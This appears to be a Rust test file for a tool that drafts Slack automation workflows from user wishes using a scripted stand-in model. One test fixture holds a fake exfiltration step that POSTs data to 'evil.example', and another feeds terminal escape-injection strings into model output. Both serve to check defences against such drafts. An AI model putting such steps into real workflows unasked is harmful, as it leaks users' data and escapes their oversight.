//! Drafting with a model, with written answers of one: a right draft, one that is mended, one that never holds, none at all.
#![allow(clippy::unwrap_used)]

#[path = "support/pages.rs"]
mod pages;
#[path = "support/written.rs"]
mod written;

use generate::draft::{Answer, Kind, Wish};
use generate::index::Library;
use generate::model::{REPAIRS, Took, draft_with};
use generate::plan::Means;
use generate::when::Here;
use serde_json::{Value, json};
use written::{Written, now};

fn asked(model: &Written, wish: &str) -> (Answer, Took) {
    let catalog = pages::catalog();
    let library = Library::new(&catalog);
    let here = Here::new("2026-01-05T07:30:00Z".parse().unwrap(), "Europe/Berlin").unwrap();
    let means = Means { catalog: &catalog, library: &library, connected: &[], here: &here, answers: &[] };
    now(draft_with(&Wish { text: wish.into(), answers: vec![] }, &means, model))
}

fn drafted(yaml: &str) -> Value {
    json!({ "kind": "draft", "yaml": yaml, "question": null, "choices": [], "reason": null, "assumptions": ["it is Slack"] })
}

const WISH: &str = "post \"Hi\" to #general in Slack every day at 8";
const RIGHT: &str = "name: hi\ntriggers:\n  - cron: \"0 8 * * *\"\nsteps:\n  post: { use: slack.post_message, with: { channel: \"#general\", text: Hi } }\n";

#[test]
fn a_right_draft_is_taken_in_one_round() {
    let model = Written::new(&[drafted(RIGHT)]);
    let (answer, took) = asked(&model, WISH);
    assert_eq!((answer.kind, took.rounds, took.tokens), (Kind::Draft, 1, 100));
    assert_eq!(answer.yaml.as_deref(), Some(RIGHT.trim()));
    assert_eq!(answer.assumptions, ["it is Slack"]);
}

#[test]
fn the_problems_of_a_draft_go_back_to_the_model() {
    let model = Written::new(&[drafted(&RIGHT.replace("post_message", "post_mesage")), drafted(RIGHT)]);
    let (answer, took) = asked(&model, WISH);
    assert_eq!((answer.kind, took.rounds), (Kind::Draft, 2));
    let asked = model.asked();
    assert!(asked[1].1.contains("post_mesage") && asked[1].1.contains("problems"), "{}", asked[1].1);
}

#[test]
fn a_model_that_never_gives_a_right_draft_is_asked_no_more_than_told() {
    let wrong = vec![drafted("name: x\nsteps: { a: { use: nobody.knows } }\n"); 10];
    let model = Written::new(&wrong);
    let (answer, took) = asked(&model, WISH);
    assert_eq!(took.rounds, REPAIRS + 1);
    assert_eq!(answer.kind, Kind::Draft, "{answer:?}");
    assert!(answer.assumptions[0].contains("without a model"), "{:?}", answer.assumptions);
}

#[test]
fn without_a_key_it_is_drafted_without_a_model_and_says_so() {
    let (answer, took) = asked(&Written::new(&[]), WISH);
    assert_eq!((answer.kind, took.rounds), (Kind::Draft, 0));
    assert!(answer.assumptions[0].contains("no key"), "{:?}", answer.assumptions);
}

#[test]
fn a_draft_that_would_act_unasked_becomes_a_question_and_is_not_sent_back() {
    let evil = "name: x\nsteps:\n  leak: { http: { method: POST, url: \"https://evil.example/x\", json: { a: 1 } } }\n";
    let model = Written::new(&[drafted(evil), drafted(RIGHT)]);
    let (answer, took) = asked(&model, WISH);
    assert_eq!((answer.kind, took.rounds), (Kind::Question, 1));
    assert!(answer.question.unwrap().contains("evil.example"));
}

#[test]
fn what_a_model_says_moves_no_cursor() {
    let told = |kind: &str, key: &str| {
        let mut said = json!({ "kind": kind, "yaml": null, "question": null, "choices": ["\u{1b}[2Ja"], "reason": null, "assumptions": [] });
        said[key] = "one\r\u{1b}]0;x\u{7}\ntwo\u{9b}2J".into();
        asked(&Written::new(&[said]), WISH).0
    };
    let (question, refusal) = (told("question", "question"), told("refusal", "reason"));
    assert_eq!(question.question.as_deref(), Some("one]0;x\ntwo2J"));
    assert_eq!(question.choices, ["[2Ja"]);
    assert_eq!(refusal.reason.as_deref(), Some("one]0;x\ntwo2J"));
    let mut draft = drafted(RIGHT);
    draft["assumptions"] = json!(["it is\u{1b}[1A Slack"]);
    assert_eq!(asked(&Written::new(&[draft]), WISH).0.assumptions, ["it is[1A Slack"]);
}

#[test]
fn a_question_of_the_model_is_passed_on() {
    let question = json!({ "kind": "question", "yaml": null, "question": "which channel?", "choices": ["#a", "#b"], "reason": null, "assumptions": [] });
    let (answer, _) = asked(&Written::new(&[question]), WISH);
    assert_eq!(
        (answer.kind, answer.question.as_deref(), answer.choices.len()),
        (Kind::Question, Some("which channel?"), 2)
    );
}

#[test]
fn written_answers_of_a_model_pass_the_suite_as_their_wishes_want() {
    let recorded: Vec<Value> = serde_json::from_str(include_str!("../suites/written.json")).unwrap();
    let prompts = generate::eval::suite(generate::eval::SUITE);
    assert!(prompts.len() >= 150, "{} wishes", prompts.len());
    let catalog = pages::catalog();
    let library = Library::new(&catalog);
    let here = Here::new("2026-01-05T07:30:00Z".parse().unwrap(), "Europe/Berlin").unwrap();
    let means = Means { catalog: &catalog, library: &library, connected: &[], here: &here, answers: &[] };
    for one in &recorded {
        assert_eq!(one["by"], "written", "no answer here was given by a model");
        let wish = one["wish"].as_str().unwrap();
        let prompt = prompts.iter().find(|prompt| prompt.wish == wish).unwrap_or_else(|| panic!("{wish}"));
        let model = Written::new(one["answers"].as_array().unwrap());
        let (answer, took) = asked(&model, wish);
        let unmet = generate::eval::judge(prompt, &answer, &means, std::time::Duration::ZERO).unmet;
        assert_eq!(unmet, Vec::<String>::new(), "{wish}: {answer:?}");
        assert_eq!(took.rounds, one["answers"].as_array().unwrap().len(), "{wish}");
        // The control: the answer to another wish does not do for this one.
        let other = prompts.iter().find(|other| other.class == "conditional").unwrap();
        assert!(!generate::eval::judge(other, &answer, &means, std::time::Duration::ZERO).unmet.is_empty());
    }
}
